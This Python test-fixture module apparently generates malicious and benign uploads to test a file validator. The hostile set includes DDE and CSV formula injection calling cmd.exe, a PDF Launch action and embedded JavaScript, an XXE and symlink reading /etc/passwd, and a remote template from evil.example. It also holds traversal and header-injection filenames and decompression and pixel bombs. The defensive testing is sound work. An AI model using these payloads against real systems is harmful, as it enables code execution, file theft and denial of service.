"""Files that must never be accepted, and files that must be, all made here."""

import io
import struct
import zipfile
import zlib

import pikepdf
from openpyxl import Workbook
from PIL import Image

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def packed(parts, level=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(body="<w:p><w:r><w:t>Text</w:t></w:r></w:p>", rels="", main=MAIN, prolog="", **more):
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="a"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body>'
        "</w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{rels}</Relationships>',
        "docProps/core.xml": '<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>Canary Author</dc:creator>'
        "</cp:coreProperties>",
    }
    return packed(parts | {name.replace("__", "/"): content for name, content in more.items()})


def external(kind, target):
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def xlsx(formula=None):
    book, buffer = Workbook(), io.BytesIO()
    book.active["A1"] = "ཆོས་སྐད་"
    if formula:
        book.active["A2"] = formula
    book.properties.creator = "Canary Author"
    book.save(buffer)
    return buffer.getvalue()


def pdf(change=None, **save):
    made, buffer = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.docinfo["/Author"] = "Canary Author"
    if change:
        change(made)
    made.save(buffer, **save)
    return buffer.getvalue()


def on_root(**entries):
    def change(made):
        for key, value in entries.items():
            made.Root[f"/{key}"] = value

    return lambda made: change(made)


def action(**entries):
    return pikepdf.Dictionary({f"/{key}": value for key, value in entries.items()})


def name(word):
    return pikepdf.Name(f"/{word}")


def signed(made):
    """A form with a signature whose box shows the name, an ordinary box, a remark, and a picture with properties."""
    page, seen = made.pages[0], made.make_stream(b"(Canary Signer) Tj", Type=name("XObject"), Subtype=name("Form"))
    proof = action(Type=name("Sig"), Name="Canary Signer", Contents=b"0" * 8, ByteRange=pikepdf.Array([0, 1, 2, 3]))
    field = made.make_indirect(action(FT=name("Sig"), T="Signature1", V=proof))
    sign = action(Type=name("Annot"), Subtype=name("Widget"), Parent=field, AP=action(N=seen))
    box = action(Type=name("Annot"), Subtype=name("Widget"), FT=name("Tx"), T="Budget", V="A plain answer")
    remark = action(Type=name("Annot"), Subtype=name("Text"), T="Canary Author", Contents="A plain remark")
    page.Annots = pikepdf.Array([made.make_indirect(part) for part in (sign, box, remark)])
    field.Kids = pikepdf.Array([page.Annots[0]])
    page.obj.PieceInfo = action(Tool=action(Private="Canary Author"))
    made.Root.AcroForm = action(SigFlags=3, Fields=pikepdf.Array([field, page.Annots[1]]))
    made.Root.Perms = action(DocMDP=proof)
    seen.Metadata = made.make_stream(b"Canary Author")


def texts_of(content):
    """Return everything that is written in a PDF, unpacked."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as made:
        plain = {"object_stream_mode": pikepdf.ObjectStreamMode.disable, "compress_streams": False}
        made.save(buffer, stream_decode_level=pikepdf.StreamDecodeLevel.all, **plain)
    return buffer.getvalue()


def with_link(made):
    made.pages[0].Annots = made.make_indirect(
        pikepdf.Array([action(Type=name("Annot"), Subtype=name("Link"), A=action(S=name("Launch"), F="cmd.exe"))])
    )


def with_file(made):
    made.attachments["x.exe"] = b"MZ"


def hidden_script(made):
    made.Root.Names = action(
        JavaScript=action(Names=pikepdf.Array(["a", action(S=name("JavaScript"), JS="app.alert(1)")]))
    )


def deep(made):
    inner = pikepdf.Array([])
    for _ in range(90):
        inner = pikepdf.Array([inner])
    made.Root.Deep = inner


def at_first_page(made):
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, name("Fit")])


def image(kind, size=(8, 8), **save):
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, kind, **save)
    return buffer.getvalue()


def wide_png():
    """A PNG of 50,000 x 50,000 pixels in a few bytes: the header says it, nothing has to be unpacked."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def symlink_zip():
    parts = zipfile.ZipFile(io.BytesIO(docx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry in parts.infolist():
            archive.writestr(entry, parts.read(entry))
        link = zipfile.ZipInfo("word/media/a.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def encrypted_zip():
    content = bytearray(docx())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = content.find(mark)
        content[start + place] |= 1
    return bytes(content)


def exif_jpeg():
    exif = Image.Exif()
    exif[0x013B] = "Canary Author"
    exif[0x8825] = {1: "N", 2: (27.0, 28.0, 0.0)}
    return image("JPEG", exif=exif)


DTD = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
BOMB = b"\0" * 200_000_000
LINKED = external("attachedTemplate", "http://evil.example/t.dotm")
OLD = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
LOCKED = OLD + "EncryptedPackage".encode("utf-16-le")


def word_field(words):
    return (
        f"<w:p><w:r><w:instrText>{words[:2]}</w:instrText></w:r><w:r><w:instrText>{words[2:]}</w:instrText></w:r></w:p>"
    )


# What it is -> (name, content, the fault that is told); each content is made when it is asked for.
HOSTILE = {
    "empty": ("a.pdf", lambda: b"", "empty"),
    "one byte too big": ("a.txt", lambda: b"a" * (10 * 1024 * 1024 + 1), "too_big"),
    "program": ("a.exe", lambda: b"MZ\x90", "type"),
    "no ending": ("report", lambda: pdf(), "type"),
    "page": ("a.html", lambda: b"<html></html>", "type"),
    "drawing with script": ("a.svg", lambda: b"<svg><script/></svg>", "type"),
    "markup": ("a.xml", lambda: b"<?xml version='1.0'?><a/>", "type"),
    "archive": ("a.zip", lambda: packed({"a": "b"}), "type"),
    "macro document by name": ("a.docm", lambda: docx(), "macros"),
    "program named pdf": ("a.pdf", lambda: b"MZ\x90\0" * 50, "mismatch"),
    "png named jpeg": ("a.jpg", lambda: image("PNG"), "mismatch"),
    "pdf named docx": ("a.docx", lambda: pdf(), "mismatch"),
    "workbook named docx": ("a.docx", lambda: xlsx(), "mismatch"),
    "archive named docx": ("a.docx", lambda: packed({"a.txt": "b"}), "mismatch"),
    "gif named png": ("a.png", lambda: image("GIF"), "mismatch"),
    "page named txt": ("a.txt", lambda: b"Hello <script>alert(1)</script>", "mismatch"),
    "mail archive named txt": ("a.txt", lambda: b"MIME-Version: 1.0\r\n\r\nx", "mismatch"),
    "pdf named csv": ("a.csv", lambda: pdf(), "encoding"),
    "zeros named txt": ("a.txt", lambda: b"a\0b", "encoding"),
    "csv that calls a program": ("a.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", "active"),
    "double ending": ("a.exe.pdf", lambda: pdf(), "name"),
    "path": ("../../a.pdf", lambda: pdf(), "name"),
    "zero in the name": ("a\0.pdf", lambda: pdf(), "name"),
    "turned name": ("a\u202efdp.exe.pdf", lambda: pdf(), "name"),
    "header in the name": ('a"\r\nX-Bad: 1.pdf', lambda: pdf(), "name"),
    "long name": ("a" * 300 + ".pdf", lambda: pdf(), "name"),
    "device name": ("con.pdf", lambda: pdf(), "name"),
    "hidden name": (".pdf", lambda: pdf(), "name"),
    "pdf with script": ("a.pdf", lambda: pdf(hidden_script), "active"),
    "pdf that runs a program": ("a.pdf", lambda: pdf(with_link), "active"),
    "pdf that acts at opening": (
        "a.pdf",
        lambda: pdf(on_root(OpenAction=action(S=name("URI"), URI="http://e"))),
        "active",
    ),
    "pdf with automatic action": ("a.pdf", lambda: pdf(on_root(AA=action(WC=action(S=name("GoTo"))))), "active"),
    "pdf with old form": ("a.pdf", lambda: pdf(on_root(AcroForm=action(XFA="x"))), "active"),
    "pdf with a file inside": ("a.pdf", lambda: pdf(with_file), "nested"),
    "pdf nested deep": ("a.pdf", lambda: pdf(deep), "unsafe"),
    "pdf with password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "protected"),
    "pdf behind a page": ("a.pdf", lambda: b"<html>" + pdf(), "double"),
    "pdf before a page": ("a.pdf", lambda: pdf() + b"<script>alert(1)</script>", "double"),
    "pdf before an archive": ("a.pdf", lambda: pdf() + packed({"a": "b"}), "double"),
    "pdf around a page": ("a.pdf", lambda: b"%PDF-1.7\n<html><script>1</script></html>" + pdf()[8:], "double"),
    "pdf cut off": ("a.pdf", lambda: pdf()[:200], "damaged"),
    "pdf of noise": ("a.pdf", lambda: b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF", "damaged"),
    "document with macros": ("a.docx", lambda: docx(**{"word__vbaProject.bin": b"x"}), "macros"),
    "document typed as macro": (
        "a.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "document with template from outside": ("a.docx", lambda: docx(rels=LINKED), "linked"),
    "document with picture from outside": (
        "a.docx",
        lambda: docx(rels=external("image", "http://e.example/a.png")),
        "linked",
    ),
    "document with link to a script": (
        "a.docx",
        lambda: docx(rels=external("hyperlink", "javascript:alert(1)")),
        "linked",
    ),
    "document with DDE in two pieces": ("a.docx", lambda: docx(word_field('DDEAUTO c:\\\\cmd.exe "/k"')), "active"),
    "document with simple DDE": ("a.docx", lambda: docx('<w:fldSimple w:instr=" DDE cmd x"/>'), "active"),
    "document with object": ("a.docx", lambda: docx(**{"word__embeddings__oleObject1.bin": OLD}), "nested"),
    "document with hidden program": (
        "a.docx",
        lambda: docx(**{"word__media__image1.png": b"MZ" + b"\0" * 60}),
        "nested",
    ),
    "document with archive": ("a.docx", lambda: docx(**{"word__a.zip": packed({"a": "b"})}), "nested"),
    "document with archive as picture": (
        "a.docx",
        lambda: docx(**{"word__media__i.png": packed({"a": "b"})}),
        "nested",
    ),
    "document with a document type": ("a.docx", lambda: docx(prolog=DTD), "markup"),
    "document type under another name": (
        "a.docx",
        lambda: docx(**{"word__x.dat": f"<?xml version='1.0'?>{DTD}<w/>"}),
        "markup",
    ),
    "document bomb": ("a.docx", lambda: docx(**{"word__media__i.bmp": BOMB}), "bomb"),
    "document with password": ("a.docx", lambda: LOCKED, "protected"),
    "document with a locked part": ("a.docx", lambda: encrypted_zip(), "protected"),
    "old document": ("a.docx", lambda: OLD, "mismatch"),
    "document with a link to the disk": ("a.docx", lambda: symlink_zip(), "unsafe"),
    "document that climbs": ("a.docx", lambda: docx(**{"..__..__a.xml": "<a/>"}), "unsafe"),
    "document before a page": ("a.docx", lambda: docx() + b"<script>", "double"),
    "document cut off": ("a.docx", lambda: docx()[:-200], "damaged"),
    "workbook that calls a program": ("a.xlsx", lambda: xlsx("=cmd|'/C calc'!A0"), "active"),
    "picture of too many pixels": ("a.png", lambda: wide_png(), "pixels"),
    "picture before an archive": ("a.png", lambda: image("PNG") + packed({"a": "b"}), "double"),
    "picture cut off": ("a.jpg", lambda: image("JPEG", (400, 400))[:2000], "damaged"),
}

GOOD = {
    "document": ("Letter of support.docx", lambda: docx(rels=external("hyperlink", "https://gov.example/a"))),
    "workbook": ("Costs 2026.xlsx", lambda: xlsx("=SUM(B1:B9)")),
    "pdf": ("report v1.2 (final).pdf", lambda: pdf()),
    "pdf that opens at a page": ("a.pdf", lambda: pdf(at_first_page)),
    "dzongkha name": ("འབྲུག་གི་ཡིག་ཆ་.pdf", lambda: pdf()),
    "picture": ("ward.png", lambda: image("PNG")),
    "photograph": ("DSC_001.JPG", lambda: exif_jpeg()),
    "text": ("notes.txt", lambda: "ཞུ་ཡིག་: three mothers said yes.".encode()),
    "table": ("figures.csv", lambda: "\ufeffday,visits\n1,-5\n2,+975 17 12 34 56\n3,-\n4,-1.5e-3\n5,'=A1\n".encode()),
}  # fmt: skip
